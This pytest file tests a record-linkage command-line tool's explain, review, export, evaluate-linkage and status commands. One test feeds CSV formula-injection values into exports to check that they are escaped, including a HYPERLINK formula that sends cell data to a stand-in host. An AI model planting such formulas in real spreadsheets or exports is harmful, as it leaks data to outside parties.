"""The linkage commands on a small linked project: explain, review, export, evaluate-linkage,
status; one JSON document with --json; exit 1 with a located message on bad input."""

from __future__ import annotations

import csv
import json
import math
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from rich.console import Console
from typer.testing import CliRunner

from uncounted.cli import output
from uncounted.cli.main import app, run
from uncounted.cli.review_text import plain_level
from uncounted.link.explain import MISSING_LABEL
from uncounted.store import Project
from uncounted.workflow.review import pair_for_review, review_queue

from ..workflow.link_helpers import copy_template, ingest_list, lists_of


class Result:
    def __init__(self, code: int, out: str, err: str) -> None:
        self.code, self.out, self.err = code, out, err

    def json(self) -> Any:
        return json.loads(self.out)  # exactly one document, or this raises


@pytest.fixture
def cli(capsys: pytest.CaptureFixture[str]) -> Any:
    """Run `uncounted ARGS` in this process, as the console script does: (status, out, err)."""

    def invoke(*args: str | Path) -> Result:
        try:
            run([str(a) for a in args])
            code = 0
        except SystemExit as stop:
            code = stop.code if isinstance(stop.code, int) else (0 if stop.code is None else 1)
        captured = capsys.readouterr()
        return Result(code, captured.out, captured.err)

    return invoke


@pytest.fixture
def linked(linked_template: Path, tmp_path: Path) -> tuple[Path, Path]:
    """A private copy of the linked project (run 1) and its simulation folder."""
    return copy_template(linked_template, tmp_path / "t")


def _big_person(project_dir: Path) -> str:
    with Project.open(project_dir) as project:
        rows = project.con.execute(
            "SELECT p.person_id FROM persons p WHERE n_records >= 2 AND EXISTS (SELECT 1 FROM"
            " link_pairs l JOIN person_records a ON a.record_id = l.record_id_l"
            " JOIN person_records b ON b.record_id = l.record_id_r"
            " WHERE a.person_id = p.person_id AND b.person_id = p.person_id)"
            " ORDER BY p.person_id LIMIT 1"
        ).fetchall()
    return str(rows[0][0])


def test_explain_shows_records_and_weighted_comparisons(linked: tuple[Path, Path], cli: Any
                                                         ) -> None:
    project_dir, _ = linked
    person = _big_person(project_dir)
    document = cli("explain", project_dir, person, "--json").json()
    assert document["person"]["person_id"] == person
    assert len(document["records"]) == document["person"]["n_records"] >= 2
    for record in document["records"]:
        assert record["person_id"] == person
        assert {"list", "release", "source_file", "source_sha256", "row_number", "full_name",
                "sex", "age_years", "id_number", "date_of_death"} <= set(record)
    pair = document["pairs"][0]
    assert 0 <= pair["match_probability"] <= 1 and pair["match_weight"] is not None
    names = [c["comparison"] for c in pair["comparisons"]]
    assert names and all(isinstance(c["level"], str) and c["level"] for c in pair["comparisons"])
    assert all("unknown" not in c["level"] for c in pair["comparisons"])
    # The comparisons' weights and the prior add up to the pair's total weight.
    total = pair["prior_weight"] + sum(
        c["weight"] + (c["tf_adjustment"] or 0) for c in pair["comparisons"]
    )
    assert total == pytest.approx(pair["match_weight"], abs=1e-6)
    assert document["events"][0]["event"] == "created"
    human = cli("explain", project_dir, person)
    assert human.code == 0 and person in human.out and "probability" in human.out


def test_review_decide_list_and_an_interactive_session(linked: tuple[Path, Path], cli: Any
                                                       ) -> None:
    project_dir, _ = linked
    queue = cli("review", project_dir, "--list", "--low", "0.01", "--json").json()
    assert queue["run_id"] == 1 and queue["total"] == len(queue["pairs"]) >= 4
    # Pairs across lists first (their labels teach what the lists' own records cannot), taken in
    # turn from each pair of lists, each closest to the threshold (in match weight) first.
    at_threshold = math.log2(queue["threshold"] / (1 - queue["threshold"]))
    across = [p["lists"][0] != p["lists"][1] for p in queue["pairs"]]
    assert across == sorted(across, reverse=True)
    groups: dict[tuple[str, ...], list[float]] = {}
    for p in queue["pairs"]:
        groups.setdefault(tuple(p["lists"]), []).append(abs(p["match_weight"] - at_threshold))
    assert all(d == sorted(d) for d in groups.values())
    assert all(p["comparisons"] for p in queue["pairs"])
    first = queue["pairs"][0]
    decided = cli("review", project_dir, "--decide", first["record_id_r"], first["record_id_l"],
                  "reject", "--reviewer", "tester", "--note", "different mothers", "--json")
    stored = decided.json()
    assert (stored["record_id_l"], stored["record_id_r"]) == (first["record_id_l"],
                                                            first["record_id_r"])
    assert stored["decision"] == "reject" and stored["reviewer"] == "tester"
    assert stored["note"] == "different mothers" and stored["decided_at"]
    after = cli("review", project_dir, "--list", "--low", "0.01", "--json").json()
    assert after["total"] == queue["total"] - 1  # decided pairs leave the queue

    session = CliRunner().invoke(
        app,
        ["review", str(project_dir), "--low", "0.01", "--limit", "4", "--reviewer", "tester"],
        input="x\na\nr\ns\nq\n",
    )
    assert session.exit_code == 0, session.output
    assert "1 accept, 1 reject, 1 skip" in session.output
    with Project.open(project_dir) as project:
        rows = project.con.execute(
            "SELECT decision, reviewer, note IS NULL, decided_at IS NOT NULL"
            " FROM review_decisions ORDER BY decision_id"
        ).fetchall()
    assert [r[0] for r in rows] == ["reject", "accept", "reject", "skip"]
    assert all(r[1] == "tester" and r[3] for r in rows)
    # The skipped pair goes to the back of the queue.
    last = cli("review", project_dir, "--list", "--low", "0.01", "--json").json()
    assert last["pairs"][-1]["skipped_before"] is True


def test_review_screen_gives_each_comparison_one_row(
    linked: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each comparison is one row of its own: name, what the left and the right record give,
    the level in plain words and its weight (the level used to sit under the left record and
    the weight under the right one)."""
    project_dir, _ = linked
    monkeypatch.setattr(output, "stdout", Console(width=200, soft_wrap=True))
    session = CliRunner().invoke(
        app, ["review", str(project_dir), "--low", "0.01", "--limit", "1", "--reviewer", "t"],
        input="q\n",
    )
    assert session.exit_code == 0, session.output
    with Project.open(project_dir) as project:
        first = review_queue(project, low=0.01, limit=1).pairs[0]
        details = pair_for_review(project, first["record_id_l"], first["record_id_r"])
    comparisons = details["pair"]["comparisons"]
    assert len(comparisons) >= 4
    lines = session.output.splitlines()
    header = [line for line in lines if "comparison" in line and "weight" in line]
    assert len(header) == 1
    assert [cell.strip() for cell in header[0].strip("┃").split("┃")] == [
        "comparison", "left", "right", "level", "weight"]
    for c in comparisons:
        # the row of this comparison in the comparisons table (five cells)
        rows = [line for line in lines
                if line.startswith(f"│ {c['comparison']} ") and line.count("│") == 6]
        assert len(rows) == 1, (c["comparison"], rows)
        name, left, right, level, weight = (cell.strip() for cell in rows[0].strip("│").split("│"))
        assert name == c["comparison"]
        assert weight == f"{c['weight']:+.2f}"
        assert level and not level.startswith("ambiguous") and level != MISSING_LABEL
        assert level != "All other comparisons"
        if c["comparison"] == "sex":
            assert (left, right) == (details["left"]["sex"] or "—", details["right"]["sex"] or "—")
    assert "≈" not in session.output and "ambiguous" not in session.output


def test_comparison_levels_in_plain_words() -> None:
    assert plain_level("death", MISSING_LABEL, None, "2024-01-03") == "one side missing"
    assert plain_level("death", MISSING_LABEL, None, None) == "both missing"
    assert plain_level("death", "same date of death", "2024-01-03", "2024-01-03") == (
        "same date of death")
    assert plain_level("death", "All other comparisons", "2024-01-03", "2024-02-03") == (
        "died over 3 days apart")
    # two levels of equal weight: a missing side settles it from the records themselves
    ambiguous = f"ambiguous: {MISSING_LABEL} / same ID, not checked valid / one edit apart"
    assert plain_level("id", ambiguous, "123456782", None) == "one side missing"
    assert plain_level("id", ambiguous, "123456782", "123456783") == (
        "same ID, not checked valid or one edit apart (equal weights)")
    assert plain_level("sex", f"ambiguous: {MISSING_LABEL} / same sex", "male", "male") == (
        "same sex")
    assert plain_level("age", "All other comparisons", "age 30", "age 50") == (
        "ages over 3 years apart")


def test_ids_are_whole_when_output_is_piped_to_a_narrow_width(
    linked: tuple[Path, Path], cli: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A record id cut with "…" cannot be pasted into `review --decide`: piped output at 40
    columns keeps every id whole (the tables go wider than the width instead)."""
    project_dir, _ = linked
    monkeypatch.setattr(output, "stdout", Console(width=40, soft_wrap=True))
    queue = cli("review", project_dir, "--list", "--low", "0.01", "--json").json()
    listed = cli("review", project_dir, "--list", "--low", "0.01")
    assert listed.code == 0 and "…" not in listed.out
    for pair in queue["pairs"]:
        assert pair["record_id_l"] in listed.out and pair["record_id_r"] in listed.out
    person = _big_person(project_dir)
    document = cli("explain", project_dir, person, "--json").json()
    explained = cli("explain", project_dir, person)
    assert explained.code == 0 and "…" not in explained.out
    assert person in explained.out
    for record in document["records"]:
        assert record["record_id"] in explained.out and record["source_file"] in explained.out


def test_export_records_and_persons(linked: tuple[Path, Path], cli: Any, tmp_path: Path) -> None:
    project_dir, _ = linked
    with Project.open(project_dir) as project:
        n_records = project.con.execute("SELECT count(*) FROM records").fetchall()[0][0]
        n_persons = project.con.execute("SELECT count(*) FROM persons").fetchall()[0][0]
        lists = [r[0] for r in project.con.execute("SELECT name FROM lists").fetchall()]
    done = cli("export", project_dir, "records", "--json").json()
    path = Path(done["path"])
    assert path.parent == project_dir / "exports" and path.suffix == ".csv"
    with path.open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == done["rows"] == n_records
    assert list(rows[0])[:6] == ["source_sha256", "list", "release", "row_number", "person_id",
                                 "record_id"]
    assert {"full_name", "sex", "age_years", "date_of_death", "id_number"} <= set(rows[0])
    assert rows[0]["row_number"] == "1" and all(r["person_id"].startswith("P") for r in rows)

    target = tmp_path / "out" / "persons.parquet"
    human = cli("export", project_dir, "persons", "--format", "parquet", "--output", target)
    assert human.code == 0 and str(target) in human.out
    table = pq.read_table(target)
    assert table.num_rows == n_persons
    assert table.column_names[:2] == ["person_id", "n_records"]
    assert {f"list:{name}" for name in lists} <= set(table.column_names)
    assert {"sex", "age_years", "age_group", "place", "date_of_death"} <= set(table.column_names)
    on_lists = sum(sum(table.column(f"list:{name}").to_pylist()) for name in lists)
    assert on_lists >= n_persons
    assert sum(table.column("n_records").to_pylist()) == n_records
    assert cli("export", project_dir, "people").code == 2
    assert cli("export", project_dir, "records", "--format", "xlsx").code == 2


def test_csv_exports_escape_cells_a_spreadsheet_would_run(
    linked: tuple[Path, Path], cli: Any, tmp_path: Path
) -> None:
    project_dir, _ = linked
    hostile = ["=HYPERLINK(\"http://x.example/?\"&A1)", "+1+1", "-2+3", "@SUM(A1:A9)",
               "\tx", "\rx", "\uff1d1+1"]
    with Project.open(project_dir) as project:
        ids = [r[0] for r in project.con.execute(
            "SELECT record_id FROM records ORDER BY record_id LIMIT ?", [len(hostile)]
        ).fetchall()]
        for record_id, text in zip(ids, hostile, strict=True):
            project.con.execute("UPDATE records SET full_name = ?, place = ? WHERE record_id = ?",
                                [text, text, record_id])
    def names(*extra: str) -> dict[str, dict[str, str]]:
        target = tmp_path / f"records{len(extra)}.csv"
        assert cli("export", project_dir, "records", "--output", target, *extra).code == 0
        with target.open(encoding="utf-8", newline="") as handle:
            return {r["record_id"]: r for r in csv.DictReader(handle) if r["record_id"] in ids}
    escaped = names()
    for record_id, text in zip(ids, hostile, strict=True):
        assert escaped[record_id]["full_name"] == "'" + text
        assert escaped[record_id]["place"] == "'" + text
    raw = names("--no-formula-escape")
    assert [raw[i]["full_name"] for i in ids] == hostile
    target = tmp_path / "records.parquet"
    assert cli("export", project_dir, "records", "--format", "parquet", "--output", target
               ).code == 0
    stored = dict(zip(pq.read_table(target).column("record_id").to_pylist(),
                      pq.read_table(target).column("full_name").to_pylist(), strict=True))
    assert [stored[i] for i in ids] == hostile
    # numbers are not text: a negative age stays a number
    assert all(r["age_years"] == "" or float(r["age_years"]) >= 0 for r in escaped.values())


def test_evaluate_linkage_against_the_simulators_truth(linked: tuple[Path, Path], cli: Any,
                                                       tmp_path: Path) -> None:
    project_dir, simulated = linked
    document = cli("evaluate-linkage", project_dir, "--truth", simulated / "truth.csv",
                   "--json").json()
    assert document["records"]["without_truth"] == 0
    assert document["records"]["truth_rows_without_record"] > 0  # the third list's rows
    for scores in (document["overall"]["pair"], document["overall"]["bcubed"]):
        assert 0.5 < scores["f1"] <= 1
    assert set(document["by"]) == {"age_group", "sex", "list"}
    assert set(document["by"]["sex"]) <= {"male", "female", "(missing)"}
    assert list(document["by"]["age_group"])[:3] == ["0-17", "18-59", "60+"]
    assert len(document["by"]["list"]) == 2
    by_folder = cli("evaluate-linkage", project_dir, "--truth", simulated, "--json").json()
    assert by_folder["overall"] == document["overall"]
    human = cli("evaluate-linkage", project_dir, "--truth", simulated)
    assert human.code == 0 and "either of its records" in human.out

    bad = tmp_path / "bad.csv"
    bad.write_text("list,row_number,who\nx,1,A\n", encoding="utf-8")
    failed = cli("evaluate-linkage", project_dir, "--truth", bad, "--json")
    assert failed.code == 1 and failed.json()["error"]["field"] == "person_id"
    assert "bad.csv" in failed.err
    bad.write_text("name,person_id\nx,A\n", encoding="utf-8")
    failed = cli("evaluate-linkage", project_dir, "--truth", bad)
    assert failed.code == 1 and "record_id" in failed.err
    missing = cli("evaluate-linkage", project_dir, "--truth", tmp_path / "nowhere.csv")
    assert missing.code == 1 and "nowhere.csv" in missing.err


def test_status_and_bad_input(linked: tuple[Path, Path], cli: Any) -> None:
    project_dir, simulated = linked
    status = cli("status", project_dir, "--json").json()
    linkage = status["linkage"]
    assert linkage["latest_run"]["run_id"] == 1
    assert linkage["persons"] > 0 and linkage["records_not_linked"] == 0
    ingest_list(project_dir, simulated, lists_of(simulated)[2])
    status = cli("status", project_dir)
    assert status.code == 0 and "records not linked yet" in status.out

    unknown = cli("explain", project_dir, "P999999", "--json")
    assert unknown.code == 1 and unknown.json()["error"]["field"] == "person_id"
    assert "P999999" in unknown.err and "Traceback" not in unknown.err
    with Project.open(project_dir) as project:
        record = project.con.execute("SELECT min(record_id) FROM records").fetchall()[0][0]
    no_record = cli("review", project_dir, "--decide", record, "nobody:1", "accept", "--json")
    assert no_record.code == 1 and no_record.json()["error"]["field"] == "record_id"
    assert "nobody:1" in no_record.err
    assert cli("review", project_dir, "--decide", record, "nobody:1", "maybe").code == 2
    assert cli("link", project_dir, "--threshold", "1.5").code == 2
    assert cli("link", project_dir, "--backend", "hadoop").code == 2


def test_commands_before_linkage_say_so(linked: tuple[Path, Path], cli: Any,
                                        tmp_path: Path) -> None:
    _, simulated = linked
    fresh = tmp_path / "fresh"
    Project.create(fresh).close()
    ingest_list(fresh, simulated, lists_of(simulated)[0])
    for args in (
        ("explain", fresh, "P000001"),
        ("export", fresh, "records"),
        ("export", fresh, "persons"),
        ("review", fresh, "--list"),
        ("evaluate-linkage", fresh, "--truth", simulated),
    ):
        done = cli(*args, "--json")
        assert done.code == 1, args
        assert "linkage has not run yet" in done.json()["error"]["message"]
    assert cli("status", fresh, "--json").json()["linkage"] is None
    assert "not run yet" in cli("status", fresh).out
    empty = tmp_path / "empty"
    Project.create(empty).close()
    nothing = cli("link", empty, "--json")
    assert nothing.code == 1 and "ingest a list first" in nothing.json()["error"]["message"]


def test_review_never_offers_pairs_clustering_cannot_join(linked: tuple[Path, Path], cli: Any
                                                           ) -> None:
    project_dir, _ = linked
    with Project.open(project_dir) as project:
        valid = dict(project.con.execute(
            "SELECT record_id, id_number FROM records WHERE id_check = 'valid'").fetchall())
        scored = project.con.execute(
            "SELECT record_id_l, record_id_r FROM link_pairs WHERE run_id = 1").fetchall()
    clash = [(a, b) for a, b in scored if a in valid and b in valid and valid[a] != valid[b]]
    queue = cli("review", project_dir, "--list", "--low", "0.0", "--high", "1.0", "--json").json()
    offered = {(p["record_id_l"], p["record_id_r"]) for p in queue["pairs"]}
    assert clash, "the fixture should score some pairs with two different valid IDs"
    assert not offered & set(clash)
